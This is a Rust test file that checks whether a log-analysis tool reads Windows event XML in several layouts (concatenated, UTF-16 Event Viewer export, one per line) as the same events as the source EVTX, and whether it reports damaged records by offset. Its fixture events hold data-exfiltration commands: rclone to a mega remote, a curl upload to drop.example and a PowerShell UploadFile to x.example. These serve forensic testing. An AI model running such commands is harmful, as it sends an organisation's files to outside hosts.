//! Windows event XML reads as the same events as the binary EVTX it was
//! rendered from (the `evtx` crate renders each record as XML, as
//! `wevtutil qe /f:xml` does), in the layouts Windows writes it: events one
//! after another, an `<Events>` document in UTF-16 (Event Viewer), one event
//! a line. Damaged events are reported at their byte offset and skipped.

mod support;

use model::Event;
use sources::{Format, SourceContext, open_bytes};
use support::corpus::{meaning, shared_evtx_files, xml_records};
use support::evtx_writer::{data, event, evtx_file};

/// The events of `bytes` read as `expected`, with the bad records' offsets.
fn read(name: &str, bytes: Vec<u8>, expected: Format) -> (Vec<Event>, Vec<u64>) {
    let (format, source) = open_bytes(name, bytes, &SourceContext::default()).unwrap();
    assert_eq!(format, expected);
    let (mut events, mut bad) = (Vec::new(), Vec::new());
    for record in source {
        match record {
            Ok(event) => events.push(event),
            Err(e) => bad.push(e.offset),
        }
    }
    (events, bad)
}

fn corpus() -> Vec<u8> {
    let time = |s: u32| format!("2026-11-20T02:{:02}:{:02}.1234567Z", s / 60, s % 60);
    let sysmon = "Microsoft-Windows-Sysmon";
    let channel = "Microsoft-Windows-Sysmon/Operational";
    let records = vec![
        event(
            sysmon,
            channel,
            1,
            1,
            &time(1),
            "ws7.corp.example",
            vec![
                data("Image", r"C:\Tools\rclone.exe"),
                data(
                    "CommandLine",
                    r#"rclone.exe copy "C:\Finance & Legal" mega:<drop>"#,
                ),
                data("User", r"CORP\alice"),
            ],
        ),
        event(
            "Microsoft-Windows-Security-Auditing",
            "Security",
            4688,
            2,
            &time(2),
            "ws7.corp.example",
            vec![
                data("NewProcessName", r"C:\Windows\System32\curl.exe"),
                data(
                    "CommandLine",
                    "curl -T q3.zip https://drop.example/up\r\n--retry 3",
                ),
                data("SubjectUserName", "alice"),
            ],
        ),
        event(
            "Microsoft-Windows-PowerShell",
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            3,
            &time(3),
            "ws7.corp.example",
            vec![
                data(
                    "ScriptBlockText",
                    "$wc = New-Object Net.WebClient\r\n$wc.UploadFile('https://x.example/', 'C:\\q.zip')",
                ),
                data("Path", ""),
            ],
        ),
    ];
    evtx_file(&records, 2)
}

#[test]
fn concatenated_events_read_as_their_evtx() {
    let evtx = corpus();
    let (want, bad) = read("a.evtx", evtx.clone(), Format::Evtx);
    assert!(bad.is_empty());
    let xml = xml_records(&evtx).concat();
    let (got, bad) = read("a.xml", xml.into_bytes(), Format::WindowsXml);
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(got.len(), want.len());
    for (got, want) in got.iter().zip(&want) {
        assert_eq!(meaning(got, &[]), meaning(want, &[]));
    }
    // The first event starts after the `evtx` crate's XML declaration.
    assert_eq!(
        got[0].origin.as_ref().unwrap().offset,
        xml_records(&evtx)[0].find("<Event").unwrap() as u64
    );
}

#[test]
fn an_event_viewer_document_in_utf16_reads_with_file_offsets() {
    let evtx = corpus();
    let (want, _) = read("a.evtx", evtx.clone(), Format::Evtx);
    let records = xml_records(&evtx);
    let mut text = String::from("<?xml version=\"1.0\" encoding=\"utf-16\"?>\r\n<Events>");
    let mut starts = Vec::new();
    for record in &records {
        // The `evtx` crate starts each record with an XML declaration.
        let at = record.find("<Event").unwrap();
        starts.push(text.encode_utf16().count() + record[..at].encode_utf16().count());
        // Event Viewer adds each event's rendered message.
        let with_message = record.replacen(
            "</Event>",
            "<RenderingInfo Culture='en-US'><Message>A process was created.</Message></RenderingInfo></Event>",
            1,
        );
        text.push_str(&with_message);
    }
    text.push_str("</Events>");
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let (got, bad) = read("saved.xml", bytes, Format::WindowsXml);
    assert!(bad.is_empty(), "{bad:?}");
    assert_eq!(got.len(), want.len());
    for ((got, want), start) in got.iter().zip(&want).zip(&starts) {
        assert_eq!(got.code, want.code);
        assert_eq!(
            got.native.get_by_name("CommandLine"),
            want.native.get_by_name("CommandLine")
        );
        assert_eq!(got.message.as_deref(), Some("A process was created."));
        // The offset is the byte offset in the UTF-16 file.
        assert_eq!(got.origin.as_ref().unwrap().offset, 2 + 2 * *start as u64);
    }
}

#[test]
fn damaged_events_are_reported_and_the_rest_read() {
    let records = xml_records(&corpus());
    let cut = &records[1][..records[1].len() / 2];
    let broken = records[2].replacen("<System>", "<System><Bad attr=x>", 1);
    let text = format!(
        "{}\n{cut}\n{}\n{broken}\n{}\n",
        records[0], records[2], records[0]
    );
    let event_at = |record: &str| record.find("<Event").unwrap();
    let cut_at = (records[0].len() + 1 + event_at(cut)) as u64;
    let broken_at =
        (records[0].len() + cut.len() + records[2].len() + 3 + event_at(&broken)) as u64;
    let (got, bad) = read("lines.xml", text.into_bytes(), Format::WindowsXml);
    assert_eq!(got.len(), 3);
    assert_eq!(bad, vec![cut_at, broken_at]);
}

/// Every record of the shared EVTX corpus reads the same from its XML.
#[test]
fn the_shared_evtx_corpus_reads_the_same_from_xml() {
    let (mut files, mut events) = (0, 0);
    let corpus = shared_evtx_files();
    if corpus.is_empty() {
        return;
    }
    for (path, bytes) in corpus {
        let Ok((Format::Evtx, source)) =
            open_bytes("a.evtx", bytes.clone(), &SourceContext::default())
        else {
            continue;
        };
        let want: Vec<Event> = source.filter_map(Result::ok).collect();
        let xml = xml_records(&bytes).concat();
        let (got, bad) = read("a.xml", xml.into_bytes(), Format::WindowsXml);
        assert!(bad.is_empty(), "{}: {bad:?}", path.display());
        assert_eq!(got.len(), want.len(), "{}", path.display());
        for (got, want) in got.iter().zip(&want) {
            assert_eq!(meaning(got, &[]), meaning(want, &[]), "{}", path.display());
        }
        files += 1;
        events += got.len();
    }
    assert!(
        files > 100 && events > 20_000,
        "{files} files, {events} events"
    );
}
